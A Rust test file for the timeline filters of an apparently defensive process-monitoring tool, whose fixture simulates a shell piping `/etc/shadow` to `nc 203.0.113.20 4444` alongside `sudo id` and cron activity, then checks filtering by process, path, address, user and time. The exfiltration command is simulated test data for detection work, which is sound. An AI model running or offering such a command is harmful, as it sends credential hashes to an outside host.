//! Filters of one story.

use event::syscalls as ev;

use super::{Filter, FilterError, Kinds};
use crate::{
    build::tests::world::{START_NS, STEP_NS, World, process},
    model::{Pipeline, ProcessId, Sentence, Timeline, Topic},
};

/// Ann's shell runs `cat /etc/shadow | nc 203.0.113.20 4444` and `sudo id`, of which the first
/// causes an alert; beside her, cron does its work.
fn story() -> Timeline {
    let mut world = World::new();
    world.pipe(100, [3, 4], 71);
    world.fork(100, 200);
    world.dup(200, 4, 1);
    world.exec(200, "/usr/bin/cat", &["cat", "/etc/shadow"]);
    world.open(200, 5, "/etc/shadow", 1);
    world.alert("secrets are read");
    world.fork(100, 201);
    world.dup(201, 3, 0);
    world.exec(201, "/usr/bin/nc", &["nc", "203.0.113.20", "4444"]);
    world.connect(201, 5, 4444, 0);
    world.fork(100, 202);
    world.exec_as(202, "/usr/bin/sudo", &["sudo", "id"], 0, 0);
    world.fork(1, 300);
    world.exec(300, "/usr/sbin/cron", &["cron"]);
    world.open(300, 5, "/etc/crontab", 1);
    world.event(ev::SETSID_X, 300, &[("res", 300.into())]);
    world.finish()
}

/// Processes of what a filter leaves, each with how much is left of it: commands, files,
/// connections, changes of rights.
fn left(filter: Filter) -> Vec<(i64, [usize; 4])> {
    let timeline = filter.apply(&story());
    let counts = timeline
        .processes
        .iter()
        .map(|p| (p.pid, [p.commands.len(), p.files.len(), p.network.len(), p.privileges.len()]));
    counts.collect()
}

fn kinds(text: &str) -> Filter {
    Filter { kinds: text.parse().unwrap(), ..Filter::default() }
}

#[test]
fn kinds_leave_their_things_and_what_these_hang_on() {
    let ancestors = [(1, [1, 0, 0, 0]), (50, [1, 0, 0, 0]), (100, [1, 0, 0, 0])];
    assert_eq!(left(kinds("network")), [&ancestors[..], &[(201, [1, 0, 1, 0])]].concat());
    let privileges = [(202, [1, 0, 0, 1]), (300, [1, 0, 0, 1])];
    assert_eq!(left(kinds("privileges")), [&ancestors[..], &privileges].concat());
}

#[test]
fn processes_are_found_by_id_and_by_name() {
    let with = |text: &str| Filter { process: Some(text.parse().unwrap()), ..Filter::default() };
    let pids = |filter| left(filter).into_iter().map(|(pid, _)| pid).collect::<Vec<_>>();
    assert_eq!(pids(with("201")), [1, 50, 100, 201]);
    assert_eq!(pids(with("nc")), [1, 50, 100, 201]);
    assert_eq!(pids(with("c*")), [1, 50, 100, 200, 300]);
    assert!(pids(with("no such")).is_empty());
}

#[test]
fn paths_are_those_of_commands_and_files() {
    let with = |text: &str| Filter { path: Some(text.parse().unwrap()), ..Filter::default() };
    assert_eq!(left(with("/etc/shadow"))[3..], [(200, [1, 1, 0, 0])]);
    assert_eq!(left(with("/usr/bin/su*"))[3..], [(202, [1, 1, 0, 0])]);
    let both = Filter { address: Some(":4444".parse().unwrap()), ..with("/etc/shadow") };
    assert_eq!(left(both)[3..], [(200, [1, 1, 0, 0]), (201, [1, 0, 1, 0])]);
}

#[test]
fn addresses_are_those_of_connections() {
    let with = |text: &str| Filter { address: Some(text.parse().unwrap()), ..Filter::default() };
    for text in ["203.0.113.0/24", "203.0.113.20:4444", ":4444", "10.0.0.1"] {
        assert_eq!(left(with(text))[3..], [(201, [1, 0, 1, 0])], "{text}");
    }
    assert_eq!(left(with(":4445")), []);
}

#[test]
fn users_are_those_that_something_ran_as() {
    let with = |text: &str| Filter { user: Some(text.parse().unwrap()), ..Filter::default() };
    let pids = |text| left(with(text)).into_iter().map(|(pid, _)| pid).collect::<Vec<_>>();
    assert_eq!(pids("ann"), [1, 50, 100, 200, 201, 202]);
    assert_eq!(pids("0"), [1, 50, 100, 202, 300]);
}

#[test]
fn time_leaves_what_lasted_into_it() {
    let event = |number: u64| START_NS + number * STEP_NS;
    let between = |from: u64, to: u64| {
        let (from_ns, to_ns) = (Some(event(from)), Some(event(to)));
        Filter { from_ns, to_ns, ..Filter::default() }
    };
    let pids = |filter| left(filter).into_iter().map(|(pid, _)| pid).collect::<Vec<_>>();
    assert_eq!(pids(between(0, 2)), [1, 50, 100], "before the first fork");
    assert_eq!(pids(between(6, 7)), [1, 50, 100, 200]);
    assert_eq!(left(Filter { from_ns: Some(event(99)), ..Filter::default() }), []);
}

#[test]
fn places_are_told_anew() {
    let filter = Filter { process: Some("nc".parse().unwrap()), ..Filter::default() };
    let mut whole = story();
    let about = |id, text: &str| Sentence {
        topic: Topic::Ran,
        text: text.to_owned(),
        events: vec![1],
        processes: vec![ProcessId(id)],
    };
    whole.summary = vec![about(3, "cat"), about(4, "nc")];
    let part = filter.apply(&whole);
    let nc = process(&part, 201);
    assert_eq!(nc.parent, Some(ProcessId(2)));
    assert_eq!(part.processes[2].children, [ProcessId(3)]);
    assert_eq!(part.sessions[nc.session.index()].processes, 3);
    assert!(part.pipelines.is_empty() && nc.commands.iter().all(|c| c.pipeline.is_none()));
    assert!(part.alerts.is_empty(), "the alert is of another process");
    let sentences = part.summary.iter().map(|s| (s.text.as_str(), s.processes.clone()));
    assert_eq!(sentences.collect::<Vec<_>>(), [("nc", vec![ProcessId(3)])]);
    assert_eq!((part.window, &part.density), (whole.window, &whole.density));
}

#[test]
fn alerts_and_pipelines_stay_with_their_processes() {
    let user = Filter { user: Some("ann".parse().unwrap()), ..Filter::default() };
    let part = user.apply(&story());
    assert_eq!(part.pipelines, [Pipeline { members: vec![ProcessId(3), ProcessId(4)] }]);
    assert_eq!(part.alerts.len(), 1);
    assert_eq!(part.alerts[0].process, Some(ProcessId(3)));
    let without = Filter { kinds: Kinds::all() - Kinds::ALERTS, ..user }.apply(&story());
    assert!(without.alerts.is_empty() && without.processes.iter().all(|p| p.alerts.is_empty()));
}

#[test]
fn kinds_that_there_are_not_are_told_with_those_that_there_are() {
    assert_eq!("files, network".parse(), Ok(Kinds::FILES | Kinds::NETWORK));
    let error = "file".parse::<Kinds>().unwrap_err();
    assert_eq!(error, FilterError::Kind("file".to_owned()));
    assert!(error.to_string().contains("commands files network privileges terminal alerts"));
}
